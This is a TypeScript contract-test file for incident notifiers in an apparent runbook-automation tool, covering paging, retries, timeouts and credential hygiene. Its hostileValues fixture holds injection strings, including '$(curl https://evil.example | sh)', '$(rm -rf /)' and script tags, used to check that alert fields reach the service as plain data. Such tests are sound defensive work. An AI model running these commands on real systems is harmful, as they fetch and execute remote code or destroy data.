import { randomUUID } from 'node:crypto';
import { existsSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { Delivery, Notifier } from '../../../src/core/notification.js';
import { Notification } from '../../../src/core/notification.js';

/** Timeout the contract gives every notifier: short, so the hang case stays fast. */
export const CONTRACT_TIMEOUT_MS = 300;

/** What a notifier looks like from its service: enough to act on the fake and read what it now shows. */
export type ServiceState = 'absent' | 'open' | 'closed';

/** One notifier wired to its loopback fake, made fresh for each contract test. */
export interface NotifierFixture {
  /** Talks to the fake with a credential it accepts, with `timeoutMs` as given to the factory. */
  readonly notifier: Notifier;
  /** Same service and fake, with a credential the fake refuses. */
  readonly withBadCredential: Notifier;
  /** Same credential, pointed at a loopback port nobody listens on. */
  readonly unreachable: Notifier;
  /** Both credentials, to check neither leaks into a reason. */
  readonly credentials: { readonly good: string; readonly bad: string };
  /** The fake's next `count` requests answer 429, with `Retry-After: retryAfterSeconds` unless null. */
  rateLimitNext(count: number, retryAfterSeconds: number | null): void;
  /** The fake's next `count` requests answer 500. */
  failNext(count: number): void;
  /** The fake's next `count` requests are never answered. */
  hangNext(count: number): void;
  /** Requests the fake has received, refused ones included. */
  requestCount(): number;
  /**
   * What a responder would see for this notification's page: nothing yet, open, or closed. Slack keeps no
   * state, so its fixture reads the thread rooted at `threadTs` (closed once a recovery reply is in it).
   */
  stateOf(notification: Notification): ServiceState;
  /** Everything the service would display for what it accepted so far, as a person would read it. */
  renderedText(): string;
  /**
   * Whether the service shows approval requests (Slack, where people decide). The others have no place for
   * them and acknowledge them without a request.
   */
  readonly showsApprovals: boolean;
  close(): Promise<void>;
}

export type MakeNotifier = (options: { readonly timeoutMs: number }) => Promise<NotifierFixture>;

/** A failed run as the routing would hand it over; `overrides` replace fields. */
export function makeNotification(overrides: Partial<Notification> = {}): Notification {
  const execId = randomUUID();
  return Notification.parse({
    action: 'open',
    execId,
    schemaId: 'restart-vm',
    schemaName: 'Restart VM',
    runbook: 'restart-vm.sh',
    status: 'failed',
    oncall: true,
    severity: 'Sev1',
    alertRule: 'vm-unresponsive',
    resourceId: '/subscriptions/0000/resourceGroups/rg-prod/providers/Microsoft.Compute/virtualMachines/vm-01',
    team: 'platform',
    durationMs: 83_000,
    exitCode: 2,
    error: 'runbook exited with code 2',
    logTail: 'stopping vm-01\nvm-01 did not stop within 60s\n',
    link: `https://cloudo.example.com/api/logs/${execId}`,
    dedupKey: `restart-vm:${randomUUID()}`,
    channel: null,
    threadTs: null,
    approval: null,
    updateTs: null,
    ...overrides,
  });
}

/** A gated run's approval request, as the results flow hands it over: one approval of two so far. */
export function makeApprovalNotification(overrides: Partial<Notification> = {}): Notification {
  return makeNotification({
    action: 'approval',
    status: 'pending_approval',
    oncall: false,
    durationMs: null,
    exitCode: null,
    error: null,
    logTail: '',
    approval: {
      state: 'pending',
      requestedBy: 'user:alice@contoso.com',
      expiresAt: '2026-12-06T04:00:00.000Z',
      minApprovals: 2,
      approvals: 1,
      decisions: [{ by: 'bob@contoso.com', decision: 'approve', reason: null, at: '2026-12-06T03:10:00.000Z' }],
      runArgs: '--force vm-01',
      outcome: null,
    },
    ...overrides,
  });
}

/** Values an alert can carry that must reach the service as text, not markup, mentions or commands. */
export function hostileValues(marker: string) {
  return {
    schemaName: 'Restart <b>VM</b> & co',
    runbook: `restart.sh; $(touch ${marker})`,
    resourceId: '/subscriptions/0000/resourceGroups/rg/providers/Microsoft.Compute/virtualMachines/<script>x</script>',
    alertRule: '<!channel> CPU > 90% & <https://evil.example|click>',
    team: 'ops & <friends>',
    error: 'exit 1\n<script>alert("x")</script>\n$(rm -rf /) && echo done',
    logTail: 'line 1 <tag> & more\nline 2 $(curl https://evil.example | sh)\n',
  } satisfies Partial<Notification>;
}

function expectFailure(delivery: Delivery): Extract<Delivery, { ok: false }> {
  if (delivery.ok) throw new Error(`expected a failed delivery, got ${JSON.stringify(delivery)}`);
  return delivery;
}

/**
 * The behaviour every notifier owes its caller, whatever the service: it pages and recovers, never throws on
 * the service's answer, tells "try again" from "give up", leaves retries to the queue, stops waiting at its
 * timeout, keeps its credential out of reasons, and sends alert fields as data. It answers every action:
 * one its service has no place for (an approval request on a paging service) is acknowledged as delivered
 * without a request, so it never pages and never comes back as a failure to retry.
 */
export function runNotifierContract(name: string, makeNotifier: MakeNotifier): void {
  describe(`${name} notifier contract`, () => {
    let fixture: NotifierFixture;
    // a generous timeout, so a loaded machine does not fail a delivery; the timeout case makes its own
    beforeEach(async () => {
      fixture = await makeNotifier({ timeoutMs: 10_000 });
    });
    afterEach(async () => {
      await fixture.close();
    });

    it('opens, then closes, and the service shows both', async () => {
      const open = makeNotification();
      expect(fixture.stateOf(open)).toBe('absent');

      const opened = await fixture.notifier.send(open);
      expect(opened.ok).toBe(true);
      // the routing keeps the first message's ref as the thread for follow-ups (only Slack reads it)
      const threadTs = opened.ok ? opened.ref : null;
      expect(fixture.stateOf({ ...open, threadTs })).toBe('open');

      const closed = await fixture.notifier.send({ ...open, action: 'close', status: 'succeeded', threadTs });
      expect(closed.ok).toBe(true);
      expect(fixture.stateOf({ ...open, threadTs })).toBe('closed');
    });

    it('accepts an informational post', async () => {
      expect((await fixture.notifier.send(makeNotification({ action: 'post', oncall: false }))).ok).toBe(true);
    });

    it('takes an approval request: shown where people decide, never paged', async () => {
      const request = makeApprovalNotification();
      const before = fixture.requestCount();

      const delivery = await fixture.notifier.send(request);

      expect(delivery.ok).toBe(true);
      if (fixture.showsApprovals) {
        expect(fixture.renderedText()).toContain(request.schemaName);
      } else {
        expect(delivery).toEqual({ ok: true, ref: null });
        expect(fixture.requestCount()).toBe(before);
        expect(fixture.stateOf(request)).toBe('absent');
      }
    });

    it('turns a 429 into a retryable failure, without retrying itself', async () => {
      fixture.rateLimitNext(1, 7);
      const before = fixture.requestCount();

      const delivery = expectFailure(await fixture.notifier.send(makeNotification()));

      expect(delivery.retryable).toBe(true);
      expect(fixture.requestCount() - before).toBe(1);
    });

    it('retries a 429 without Retry-After too', async () => {
      fixture.rateLimitNext(1, null);

      const delivery = expectFailure(await fixture.notifier.send(makeNotification()));

      expect(delivery.retryable).toBe(true);
    });

    it('turns a 500 into a retryable failure, sent once', async () => {
      fixture.failNext(1);
      const open = makeNotification();
      const before = fixture.requestCount();

      const delivery = expectFailure(await fixture.notifier.send(open));

      expect(delivery.retryable).toBe(true);
      expect(delivery.reason).toMatch(/500/);
      expect(fixture.requestCount() - before).toBe(1);
      expect(fixture.stateOf(open)).toBe('absent');
    });

    it('gives up waiting at its timeout and says so, retryable', async () => {
      const impatient = await makeNotifier({ timeoutMs: CONTRACT_TIMEOUT_MS });
      impatient.hangNext(1);
      const started = performance.now();

      const delivery = expectFailure(await impatient.notifier.send(makeNotification()));

      const elapsedMs = performance.now() - started;
      await impatient.close();
      expect(delivery.retryable).toBe(true);
      expect(delivery.reason).toContain(`${CONTRACT_TIMEOUT_MS} ms`);
      // the server never answers: any finite wait shows it gave up, not how fast (timing belongs in benches)
      expect(elapsedMs).toBeGreaterThanOrEqual(CONTRACT_TIMEOUT_MS - 20);
    });

    it('treats an unreachable service as retryable', async () => {
      const delivery = expectFailure(await fixture.unreachable.send(makeNotification()));

      expect(delivery.retryable).toBe(true);
      expect(delivery.reason).toMatch(/ECONNREFUSED/);
    });

    it('gives up on a refused credential, naming why but not the credential', async () => {
      const open = makeNotification();

      const delivery = expectFailure(await fixture.withBadCredential.send(open));

      expect(delivery.retryable).toBe(false);
      expect(delivery.reason.length).toBeGreaterThan(10);
      expect(delivery.reason).not.toContain(fixture.credentials.bad);
      expect(delivery.reason).not.toContain(fixture.credentials.good);
      expect(fixture.stateOf(open)).toBe('absent');
    });

    it('sends markup, mentions, newlines and $(...) in alert fields as plain data', async () => {
      const marker = path.join(tmpdir(), `cloudo-notify-${randomUUID()}`);
      const values = hostileValues(marker);

      const delivery = await fixture.notifier.send(makeNotification(values));

      expect(delivery.ok).toBe(true);
      const shown = fixture.renderedText();
      for (const value of [values.runbook, values.resourceId, values.alertRule, values.team, values.error]) {
        expect(shown).toContain(value);
      }
      expect(shown).toContain(values.logTail.trimEnd());
      expect(existsSync(marker)).toBe(false);
    });
  });
}
